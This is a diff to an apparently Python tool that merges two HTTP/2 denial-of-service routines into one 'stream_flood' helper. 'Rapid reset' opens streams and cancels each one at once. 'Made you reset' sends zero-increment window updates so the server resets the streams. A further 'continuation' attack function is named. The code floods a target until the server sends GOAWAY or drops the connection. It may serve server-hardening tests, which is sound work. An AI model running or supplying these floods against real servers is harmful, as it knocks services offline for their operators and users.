@@ -96,7 +96,9 @@ def header_block(conn, headers):
     return conn.encoder.encode(headers)
 
 
-def rapid_reset(host, port, n):
+def stream_flood(host, port, n, follow):
+    """Opens up to n streams, each followed by the frame `follow(stream_id)`, until the server
+    ends the connection; what it did."""
     sock, conn = connect(host, port)
     w = Watch(sock, conn)
     w.poll(0.2)
@@ -108,33 +110,7 @@ def rapid_reset(host, port, n):
         try:
             send_raw(sock, HeadersFrame(sid, header_block(conn, request_headers(host)),
                                         flags=["END_HEADERS", "END_STREAM"]))
-            send_raw(sock, RstStreamFrame(sid, error_code=8))  # CANCEL
-        except OSError:
-            w.closed = True
-            break
-        sent += 1
-        if i % 50 == 0:
-            w.poll()
-    end = time.monotonic() + 2
-    while not w.done() and time.monotonic() < end:
-        w.poll(0.1)
-    return {"sent": sent, "goaway": w.goaway, "closed": w.closed}
-
-
-def made_you_reset(host, port, n):
-    sock, conn = connect(host, port)
-    w = Watch(sock, conn)
-    w.poll(0.2)
-    sent = 0
-    for i in range(n):
-        if w.done() or time.monotonic() > DEADLINE:
-            break
-        sid = 1 + 2 * i
-        try:
-            send_raw(sock, HeadersFrame(sid, header_block(conn, request_headers(host)),
-                                        flags=["END_HEADERS", "END_STREAM"]))
-            # A zero increment is a stream error the server answers with RST_STREAM.
-            send_raw(sock, WindowUpdateFrame(sid, window_increment=0))
+            send_raw(sock, follow(sid))
         except OSError:
             w.closed = True
             break
@@ -145,6 +121,15 @@ def made_you_reset(host, port, n):
     while not w.done() and time.monotonic() < end:
         w.poll(0.1)
     return {"sent": sent, "goaway": w.goaway, "closed": w.closed, "resets": w.resets}
+
+
+def rapid_reset(host, port, n):
+    return stream_flood(host, port, n, lambda sid: RstStreamFrame(sid, error_code=8))  # CANCEL
+
+
+def made_you_reset(host, port, n):
+    # A zero increment is a stream error the server answers with RST_STREAM.
+    return stream_flood(host, port, n, lambda sid: WindowUpdateFrame(sid, window_increment=0))
 
 
 def continuation(host, port, total):
